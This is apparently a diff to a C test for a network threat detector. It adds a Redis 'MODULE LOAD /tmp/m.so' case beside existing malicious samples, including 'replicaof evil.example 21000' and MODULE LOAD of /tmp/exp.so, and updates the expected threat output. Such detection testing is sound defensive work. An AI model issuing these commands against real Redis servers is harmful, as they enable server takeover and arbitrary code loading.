@@ -45,6 +45,7 @@ static void test_redis_threats(void **state)
 		L7_MSG(BH_NET_TO_SERVER, "replicaof evil.example 21000\r\n"),
 		L7_MSG(BH_NET_TO_SERVER,
 		       "*3\r\n$6\r\nMODULE\r\n$4\r\nload\r\n$11\r\n/tmp/exp.so\r\n"),
+		L7_MSG(BH_NET_TO_SERVER, "MODULE LOAD /tmp/m.so arg1 arg2\r\n"),
 	};
 	static const struct l7_msg benign[] = {
 		L7_MSG(BH_NET_TO_SERVER, "*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n"),
@@ -57,7 +58,7 @@ static void test_redis_threats(void **state)
 	};
 
 	(void)state;
-	l7_check(redis(), &fl, bad, 5,
+	l7_check(redis(), &fl, bad, 6,
 		 "C cmd CONFIG|set\n"
 		 "C threat BH-NET-REDIS-CONFIG-DIR CONFIG SET dir/dbfilename\n"
 		 "C cmd CONFIG|set\n"
@@ -67,7 +68,9 @@ static void test_redis_threats(void **state)
 		 "C cmd REPLICAOF|evil.example\n"
 		 "C threat BH-NET-REDIS-REPLICAOF REPLICAOF evil.example\n"
 		 "C cmd MODULE|load\n"
-		 "C threat BH-NET-REDIS-MODULE-LOAD MODULE LOAD /tmp/exp.so\n");
+		 "C threat BH-NET-REDIS-MODULE-LOAD MODULE LOAD /tmp/exp.so\n"
+		 "C cmd MODULE|LOAD\n"
+		 "C threat BH-NET-REDIS-MODULE-LOAD MODULE LOAD /tmp/m.so\n");
 	l7_check(redis(), &fl, benign, 7,
 		 "C cmd CONFIG|GET\n"
 		 "C cmd CONFIG|set\n"
